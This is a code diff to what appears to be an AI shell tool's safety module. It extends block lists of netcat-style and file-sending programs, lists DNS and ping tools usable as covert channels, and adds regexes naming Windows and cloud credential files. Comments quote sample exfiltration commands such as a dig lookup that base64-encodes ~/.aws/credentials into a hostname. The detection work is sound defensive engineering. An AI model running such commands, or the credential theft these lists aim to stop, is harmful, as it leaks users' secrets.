@@ -19,7 +19,10 @@ from aish.safety.shell_words import Word
 
 # Programs that send what they read on stdin to the network.
 _STDIN_SENDERS = {"nc", "ncat", "netcat", "socat", "telnet", "openssl", "pastebinit", "termbin", "sendmail", "mail",
-                  "mailx", "s-nail", "mutt", "wormhole", "croc", "ffsend", "nc.traditional", "nc.openbsd"}
+                  "mailx", "s-nail", "mutt", "wormhole", "croc", "ffsend", "nc.traditional", "nc.openbsd",
+                  # other netcats and socket clients, and mail submitters that read the message on stdin
+                  "pwncat", "rustcat", "rcat", "cryptcat", "sbd", "powercat", "websocat", "wscat", "gnutls-cli",
+                  "nc.exe", "ncat.exe", "msmtp", "ssmtp", "esmtp", "dma", "sendxmpp"}
 # Programs that hand the files on their line to someone else (a code phrase, a link), and their verbs.
 _FILE_SENDERS = {"croc", "wormhole", "magic-wormhole", "ffsend", "onionshare", "onionshare-cli", "portal", "sendme",
                  "transfer", "wsend", "pastebinit", "imgur", "0x0", "dropbox_uploader", "dropbox_uploader.sh",
@@ -28,7 +31,8 @@ _SEND_WORDS = {"send", "upload", "share", "put", "push", "add", "tx", "file", "f
 # Programs that send files named on their line to the network.
 _SENDERS = {"curl", "wget", "http", "https", "xh", "httpie", "curlie", "scp", "sftp", "rsync", "rclone", "aws",
             "gsutil", "gh", "ssh", "ftp", "lftp", "tftp", "smbclient", "invoke-restmethod", "invoke-webrequest",
-            "irm", "iwr", "transfer", "ffsend", "croc", "wormhole", "mail", "mailx", "mutt"} | \
+            "irm", "iwr", "transfer", "ffsend", "croc", "wormhole", "mail", "mailx", "mutt", "winscp.com", "winscp",
+            "winscp.exe", "psftp", "hping3", "hping", "nping"} | \
     _STDIN_SENDERS | _FILE_SENDERS
 # Copy tools: their destination is a machine the user names (a backup of home is routine).
 _COPIERS = {"scp", "sftp", "rsync", "rclone", "aws", "gsutil", "smbclient", "lftp", "ftp"}
@@ -72,6 +76,18 @@ _SECRET_NAME = re.compile(r"(^|/)(id_(rsa|dsa|ecdsa|ed25519|\*)(_sk)?|[\w.*-]*\.
                           # a file whose name says it holds a login: auth.json, credentials.toml, token, api_key.txt
                           r"(auth|credentials?|token|api[_-]?keys?)(\.(json|ya?ml|toml|ini|conf|cfg|txt|db))?)$")
 
+# Windows' secret files, in any case: browsers' saved logins and their key, FileZilla's and WinSCP's saved sites,
+# web.config's connection strings, answer files and Group Policy preferences (passwords in them), DPAPI's
+# credentials and master keys, PowerShell's history, the registry hives and the AD database.
+_WINDOWS_SECRET = re.compile(r"(^|/)(login data|web data|cookies|local state|sitemanager\.xml|recentservers\.xml|"
+                             r"winscp\.ini|confcons\.xml|web\.config|(auto)?unattend(ed)?\.xml|sysprep\.(xml|inf)|"
+                             r"(groups|services|scheduledtasks|datasources|drives|printers)\.xml|"
+                             r"consolehost_history\.txt|ntds\.dit|sam|security|system)$|"
+                             r"/microsoft/(credentials|protect|vault)(/|$)|/\.(ssh|aws|azure|kube|gnupg|docker)(/|$)|"
+                             r"(^|/)(credentials|\.git-credentials|\.netrc|_netrc|\.pgpass|\.npmrc|\.env)$",
+                             re.IGNORECASE)
+_HISTORY_WINDOWS = re.compile(r"consolehost_history\.txt$", re.IGNORECASE)
+
 # Files under ~/.ssh that hold no key: the client's settings, the hosts it has seen, the keys let in (all public).
 _SSH_NOT_SECRET = re.compile(r"(^|/)\.ssh/(config|known_hosts(\.old)?|authorized_keys2?)$")
 
@@ -85,9 +101,12 @@ def secret_path(w: Word) -> str:
     if text.endswith(".pub") or re.search(r"\.(example|sample|template|dist)$", text) or _SSH_NOT_SECRET.search(text):
         return ""  # a public key, a file of placeholders, ssh's host list or client settings
     raw = w.raw.strip("'\"")
-    if re.match(r"^([A-Za-z]:\\|%\w+%\\|\$env:\w+\\|\$HOME\\|~\\)", raw, re.IGNORECASE):  # C:\Users\x\.aws\credentials
+    # C:\Users\x\.aws\credentials, %APPDATA%\FileZilla\sitemanager.xml, \\dc\SYSVOL\…\Groups.xml
+    if re.match(r"^([A-Za-z]:\\|%\w+%\\|\$env:\w+\\|\$HOME\\|~\\|\\\\)", raw, re.IGNORECASE):
         raw = raw.replace("\\", "/")
-        return "high" if _SECRET_NAME.search(raw) or re.search(r"/\.(ssh|aws|kube|gnupg)(/|$)", raw) else ""
+        if _HISTORY_WINDOWS.search(raw):
+            return "medium"
+        return "high" if _SECRET_NAME.search(raw) or _WINDOWS_SECRET.search(raw) else ""
     t = target(w)
     path = t.path or text
     if re.search(r"(^|/)([\w.-]*\.env|\.env\.\w+)$", path):
@@ -192,9 +211,9 @@ def payload_words(args: list) -> list:
     return out
 
 
-def _named_files(c: Ctx) -> list:
+def _named_files(c: Ctx, texts: Optional[list] = None) -> list:
     """The files a sender's own line uploads (``-F f=@x``, ``-d @x``, ``-T x``, ``--post-file=x``...)."""
-    texts = c.texts
+    texts = c.texts if texts is None else texts
     files = []
     for k, t in enumerate(texts):
         nxt = texts[k + 1] if k + 1 < len(texts) else ""
@@ -224,6 +243,10 @@ def _named_files(c: Ctx) -> list:
     if c.prog in ("smbclient", "lftp", "ftp", "sftp") and any(t in ("-c", "-e") for t in texts):
         script = texts[next(k for k, t in enumerate(texts) if t in ("-c", "-e")) + 1:][:1]  # -c 'put FILE'
         files += [p for line in script for p in re.findall(r"\b(?:m?put|reput)\s+([^\s;]+)", line)]
+    if c.prog.lower().startswith(("winscp", "psftp")):  # WinSCP.com /command "open sftp://…" "put FILE"
+        files += [p for line in texts for p in re.findall(r"(?i)\b(?:m?put|reput)\s+(?:-\S+\s+)*([^\s;]+)", line)]
+    if c.prog in ("hping3", "hping") and any(t in ("-E", "--file") for t in texts):  # the file goes in the packets
+        files += [texts[k + 1] for k, t in enumerate(texts[:-1]) if t in ("-E", "--file")]
     if c.prog in ("gh",) and texts[:2] == ["gist", "create"]:
         files += [t for t in texts[2:] if not t.startswith("-")]
     if c.prog in ("mail", "mailx", "mutt", "s-nail", "neomutt"):  # -a (mutt, s-nail), -A (mailutils)
@@ -255,12 +278,15 @@ _LOADS = re.compile(r"\b(load|import|restore|psql|mysql|mariadb|pg_restore|mongo
 
 def rule_exfiltration(c: Ctx) -> Optional[tuple]:
     """A network sender whose payload is secret: named on its line, redirected in, or piped in."""
-    if c.prog.lower() not in _SENDERS and c.prog not in _LOOKUPS:
+    lookup = c.prog.lower() in _LOOKUPS
+    if c.prog.lower() not in _SENDERS and not lookup:
         return None
-    found = _in_substitutions(payload_words(c.args))
+    found = _in_substitutions(c.args if lookup else payload_words(c.args))  # `ping -p $(xxd -p KEY)`: data
     copies = c.prog in _COPIERS  # to a host the user names: only keys and credentials count, not a whole home
     as_written = {w.text: w for w in c.args}  # `C:\Users\x\.aws\credentials`: the backslashes the shell took
-    for name in _named_files(c):
+    raw_texts = [w.raw.strip("'\"") for w in c.args] if any("\\" in w.raw for w in c.args) else []
+    as_written.update({name: Word(name, name) for name in _named_files(c, raw_texts)} if raw_texts else {})
+    for name in _named_files(c) + (_named_files(c, raw_texts) if raw_texts else []):
         word = as_written.get(name) or Word(name, name, has_var="$" in name)
         if copies and target(word).kind in ("home", "root", "userhome"):
             continue
@@ -298,5 +324,9 @@ def rule_tcp_redirect(seg) -> Optional[tuple]:
 
 
 # Programs that only look a name up: the name itself carries data (`dig $(base64 -w0 ~/.aws/credentials).x.example`).
-_LOOKUPS = {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "traceroute", "tracepath"}
+_LOOKUPS = {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "traceroute", "tracepath",
+            # any resolver or prober: the name or the padding it sends is the data
+            "doggo", "dog", "q", "resolvectl", "getent", "adig", "ahost", "dnsget", "dnslookup", "dnsx", "massdns",
+            "resolve-dnsname", "nslookup.exe", "fping", "arping", "tcping", "mtr", "whois", "nping", "hping3",
+            "hping", "test-connection", "test-netconnection", "psping"}
 RULES: dict = {p: [rule_exfiltration] for p in _SENDERS | _LOOKUPS}
